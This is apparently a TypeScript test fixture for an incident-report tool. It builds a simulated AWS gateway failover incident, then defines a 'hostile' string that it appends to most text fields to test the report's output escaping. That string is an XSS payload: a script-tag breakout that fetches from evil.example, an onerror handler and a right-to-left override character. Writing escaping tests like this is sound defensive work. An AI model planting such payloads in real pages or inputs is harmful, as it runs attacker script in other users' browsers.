/** An incident as a report is made of: a divert, a repair and a failback of the pair site's one connection. */

import type { ReportSource } from '../../../../cli/report/source';
import type { IncidentRecord } from '../../../../core/turn/incident-record';
import { loadScenario } from '../../../../sim/scenario';

export const openedAt = Date.parse('2026-01-05T00:02:01Z');
export const after = (seconds: number): number => openedAt + seconds * 1_000;

const arn = 'arn:aws:states:eu-central-1:111111111111:execution:switchback-failover:ec2-stopping';
const tables = ['rtb-00000000000000001', 'rtb-00000000000000002'];
const interfaces = { a: 'eni-0aaaaaaaaaaaaaaa1', b: 'eni-0bbbbbbbbbbbbbbb1' } as const;

const move = (from: 'a' | 'b', to: 'a' | 'b', sentAt: number): IncidentRecord['writes'] =>
  tables.map((table) => ({
    ...{ routeSet: 'office', table, destination: '172.16.0.0/16', kind: 'replace' },
    ...{ from: interfaces[from], to: interfaces[to], sentAt, effectiveAt: sentAt + 600 },
    ...{ result: 'done', detail: '', execution: arn },
  }));

export const record: IncidentRecord = {
  schema: 1,
  id: 'I-7F3K2M',
  connection: 'paris',
  account: '111111111111',
  region: 'eu-central-1',
  deployment: 'switchback',
  openedAt,
  closedAt: after(330),
  because: 'path a: EC2 says i-0aaaaaaaaaaaaaaa1 (gw-a) is stopping',
  executions: [{ arn, startedAt: after(-1), endedAt: after(331), end: 'Finished', transitions: 190 }],
  signals: [{ at: after(-1), source: 'ec2', execution: arn }],
  paths: {
    a: [
      { from: openedAt, verdict: 'down', because: 'EC2 says stopping', drained: false },
      { from: after(120), verdict: 'healthy', because: '', drained: false },
    ],
    b: [{ from: openedAt, verdict: 'healthy', because: '', drained: false }],
  },
  sets: {
    office: [
      { from: openedAt, on: 'a', users: 'dark', because: '' },
      { from: after(2), on: 'b', users: 'served', because: '' },
      { from: after(309), on: 'a', users: 'served', because: '' },
    ],
  },
  samples: [
    {
      ...{ at: openedAt, canary: 'paris/path-a', path: 'a', routeSet: null },
      verdict: 'down',
      lossRatio: 1,
      rttMs: null,
    },
    {
      ...{ at: after(30), canary: 'paris/path-a', path: 'a', routeSet: null },
      verdict: 'healthy',
      lossRatio: 0,
      rttMs: 24,
    },
  ],
  decisions: [
    {
      ...{ at: openedAt, execution: arn, kind: 'divert', rule: 'rescue' },
      because: 'path a is down; path b is proven healthy: canary paris/path-b got its answer 1.8 s ago',
      evidence: ['path a is down: EC2 says stopping', 'path b is healthy'],
      raw: { decision: { kind: 'divert' }, situation: { mode: 'repair' } },
    },
    ...[5, 35, 65].map((seconds) => ({
      ...{ at: after(seconds), execution: arn, kind: 'hold', rule: 'due' },
      because: `stop-start runs on path a since ${seconds} s`,
      ...{ evidence: [], raw: {} },
    })),
    {
      ...{ at: after(307), execution: arn, kind: 'failback', rule: 'failback', because: 'home has soaked' },
      evidence: [],
      raw: {},
    },
  ],
  writes: [...move('a', 'b', after(0.1)), ...move('b', 'a', after(308))],
  rungs: [
    {
      ...{ rung: 'stop-start', path: 'a', gateway: 'gw-a', purpose: 'repair', startedAt: after(1), endedAt: after(75) },
      ...{ result: 'success', said: '', because: 'path a is down' },
    },
  ],
  notices: [
    { at: after(3), to: 'arn:aws:sns:x', subject: 'Traffic moved to b', text: 'Why …', isSent: true, execution: arn },
  ],
  commands: [],
  dark: [{ routeSet: 'office', from: after(-1), until: after(2.5) }],
  gaps: [],
};

const { deployment } = loadScenario('gateway-stopped');

export const source: ReportSource = {
  record,
  deployment,
  connection: deployment.connections['paris']!,
  measured: null,
  madeAt: after(400),
  unread: [],
};

/** What somebody would write who wants the page to do something. */
const hostile = '</script><script>fetch("https://evil.example")</script><img src=x onerror=alert(1)>"\'\u202e<!--';

const kept = new Set([
  'kind',
  'rule',
  'result',
  'verdict',
  'users',
  'on',
  'connection',
  'routeSet',
  'canary',
  'execution',
]);

/** Names that link one part of a record to another stay. */
function withTexts(value: unknown, key = ''): unknown {
  if (typeof value === 'string') return kept.has(key) ? value : `${value} ${hostile}`;
  if (Array.isArray(value)) return value.map((one) => withTexts(one, key));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, withTexts(one, name)]));
}

/** The same incident, everything that has a text told by such a somebody. */
export const hostileSource: ReportSource = {
  ...source,
  record: withTexts(record) as IncidentRecord,
  unread: [hostile],
  world: { played: hostile, happened: [{ at: after(-1), what: hostile }], dark: [], lanes: [] },
};
